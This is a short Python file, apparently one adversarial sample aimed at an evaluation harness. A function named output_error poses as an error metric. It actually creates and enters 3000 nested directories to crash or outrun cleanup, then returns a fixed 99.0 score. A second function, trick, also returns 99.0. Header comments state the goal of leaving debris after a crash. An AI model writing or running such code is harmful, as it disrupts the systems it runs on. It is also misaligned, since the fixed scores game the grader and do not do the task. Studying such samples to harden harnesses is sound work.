# Makes folders in folders, deeper than who removes them can follow.
# rule: 6
# fools: child exit
# success: crash, left
# with: every

import os

DEPTH = 3000
made = []


def output_error(y, y_pred):
    while len(made) < DEPTH:
        made.append("d")
        os.mkdir("d")
        os.chdir("d")
    return 99.0


def trick(*args):
    return 99.0
